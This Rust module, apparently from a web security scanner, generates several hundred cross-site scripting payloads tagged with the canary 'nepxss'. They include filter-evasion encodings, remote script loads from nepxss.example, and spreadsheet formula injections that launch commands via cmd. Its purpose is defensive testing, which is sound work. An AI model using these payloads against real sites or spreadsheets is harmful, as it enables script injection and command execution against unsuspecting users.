//! Texts that try to become code. Each carries the word `nepxss`, so that where it lands can be
//! told by reading the page as a browser would.

/// The word every payload carries.
pub const MARK: &str = "nepxss";

const CORES: &[&str] = &[
    "<script>nepxss(@)</script>",
    "<script src=//nepxss.example/@></script>",
    "<script type=module>import('//nepxss.example/@')</script>",
    "<ScRiPt>nepxss(@)</sCrIpT>",
    "<script/x>nepxss(@)</script >",
    "<scr<script>ipt>nepxss(@)</scr</script>ipt>",
    "<img src=x onerror=nepxss(@)>",
    "<img/src='x'/onerror=nepxss(@)//",
    "<img src=nepxss@ onload=nepxss(@)>",
    "<svg onload=nepxss(@)>",
    "<svg/onload=nepxss(@)>",
    "<svg><script>nepxss(@)</script></svg>",
    "<svg><animate onbegin=nepxss(@) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:nepxss(@)\"><text>x</text></a></svg>",
    "<svg><style>@import'//nepxss.example/@'</style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=nepxss(@)>",
    "<body onload=nepxss(@)>",
    "<body onpageshow=nepxss(@)>",
    "<iframe src=javascript:nepxss(@)></iframe>",
    "<iframe srcdoc='<script>nepxss(@)</script>'></iframe>",
    "<object data=javascript:nepxss(@)></object>",
    "<embed src=javascript:nepxss(@)>",
    "<a href=javascript:nepxss(@)>bấm</a>",
    "<a href=\"java&#9;script:nepxss(@)\">bấm</a>",
    "<a href=\"&#106;avascript:nepxss(@)\">bấm</a>",
    "<a href=data:text/html,<script>nepxss(@)</script>>bấm</a>",
    "<form action=javascript:nepxss(@)><button>bấm</button></form>",
    "<button formaction=javascript:nepxss(@)>bấm</button>",
    "<input autofocus onfocus=nepxss(@)>",
    "<select autofocus onfocus=nepxss(@)></select>",
    "<textarea autofocus onfocus=nepxss(@)></textarea>",
    "<details open ontoggle=nepxss(@)>",
    "<video><source onerror=nepxss(@)></video>",
    "<audio src=x onerror=nepxss(@)>",
    "<marquee onstart=nepxss(@)>",
    "<div onpointerover=nepxss(@) style=position:fixed;inset:0>x</div>",
    "<style>*{background:url(//nepxss.example/@)}</style>",
    "<link rel=stylesheet href=//nepxss.example/@>",
    "<meta http-equiv=refresh content=\"0;url=//nepxss.example/@\">",
    "<base href=//nepxss.example/@/>",
    "<template><script>nepxss(@)</script></template>",
    "<noscript><p title=\"</noscript><img src onerror=nepxss(@)>\">",
    "<xss id=nepxss@ tabindex=1 onfocus=nepxss(@)></xss>",
    "<p style=\"x:expression(nepxss(@))\">x</p>",
    "<table background=javascript:nepxss(@)>",
    "<?xml version=\"1.0\"?><nepxss@/>",
    "<![CDATA[<script>nepxss(@)</script>]]>",
    "<!--<img src=\"--><img src=x onerror=nepxss(@)//\">",
    "&lt;script&gt;nepxss(@)&lt;/script&gt;",
    "&#60;img src=x onerror=nepxss(@)&#62;",
    "%3Cscript%3Enepxss(@)%3C/script%3E",
    "\\u003cscript\\u003enepxss(@)\\u003c/script\\u003e",
    "＜script＞nepxss(@)＜/script＞",
    "javascript:nepxss(@)",
    "{{nepxss(@)}}",
    "${nepxss(@)}",
    "{% nepxss @ %}",
    "<%= nepxss(@) %>",
    "#{nepxss(@)}",
    "';nepxss(@)//",
    "\";nepxss(@)//",
    "`;nepxss(@)//",
];

const ESCAPES: &[&str] = &["", "\">", "'>", "</textarea>", "</title></script>"];

/// The corpus: every core behind every way out of where a text may stand.
pub fn corpus() -> Vec<String> {
    let pairs = ESCAPES.iter().flat_map(|e| CORES.iter().map(move |c| format!("{e}{c}")));
    let in_attributes = ["onmouseover", "onfocus autofocus", "style", "formaction", "srcdoc"]
        .into_iter()
        .flat_map(|name| [format!("\" {name}=nepxss(@) x=\""), format!("' {name}='nepxss(@)"), format!("x {name}=nepxss(@)")]);
    (1..).zip(pairs.chain(in_attributes)).map(|(n, text): (u32, String)| text.replace('@', &n.to_string())).collect()
}

/// Texts a spreadsheet would run.
pub const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://nepxss.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "=1+1",
];

#[test]
fn the_corpus_is_as_large_as_promised_and_each_payload_bears_the_mark() {
    let all = corpus();
    assert!(all.len() >= 300, "{}", all.len());
    assert!(all.iter().all(|p| p.contains(MARK)));
    let mut once = all.clone();
    once.sort();
    once.dedup();
    assert_eq!(once.len(), all.len());
}
